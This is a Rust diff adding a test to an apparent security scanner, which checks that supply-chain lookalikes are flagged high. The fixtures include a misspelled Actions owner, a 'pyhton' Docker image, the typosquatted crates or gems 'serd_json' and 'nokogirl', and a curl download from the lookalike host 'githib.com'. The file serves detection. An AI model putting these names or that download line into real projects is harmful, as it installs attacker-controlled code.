@@ -145,3 +145,50 @@ fn what_a_command_runs_before_it_is_read_counts_as_run() {
     let good = command("git diff --stat; git log -1");
     assert!(good.verdict.severity <= Severity::Medium, "{:?}", good.findings);
 }
+
+#[test]
+fn code_from_owners_lists_and_hosts_that_are_nearly_well_known_is_high() {
+    const SKILL: &str = "---\nname: a\ndescription: Builds the project.\n---\nRun the build.\n";
+    for (path, harmful, harmless, rule) in [
+        (
+            ".github/workflows/a.yml",
+            "jobs:\n  a:\n    steps:\n      - uses: action/checkout@v4\n",
+            "jobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n",
+            "supply-chain.owner-lookalike",
+        ),
+        (
+            "Dockerfile",
+            "FROM pyhton/python:3.12\n",
+            "FROM python:3.12\n",
+            "supply-chain.owner-lookalike",
+        ),
+        (
+            "Cargo.toml",
+            "[dependencies]\nserd_json = \"1\"\n",
+            "[dependencies]\nserde_json = \"1\"\n",
+            "supply-chain.typosquat",
+        ),
+        (
+            "Gemfile",
+            "gem \"nokogirl\"\n",
+            "gem \"nokogiri\"\n",
+            "supply-chain.typosquat",
+        ),
+        (
+            "install.sh",
+            "#!/bin/sh\ncurl -fsSLO https://githib.com/acme/tool/releases/download/v1/tool.tgz\n",
+            "#!/bin/sh\ncurl -fsSLO https://github.com/acme/tool/releases/download/v1/tool.tgz\n",
+            "trust.lookalike-host",
+        ),
+    ] {
+        let high = |text: &str| {
+            let report = scan(ScanKind::Skill, &[("SKILL.md", SKILL), (path, text)]);
+            report
+                .findings
+                .iter()
+                .any(|one| one.rule == rule && one.file == path && one.severity == Severity::High)
+        };
+        assert!(high(harmful), "{path}: {harmful}");
+        assert!(!high(harmless), "{path}: {harmless}");
+    }
+}
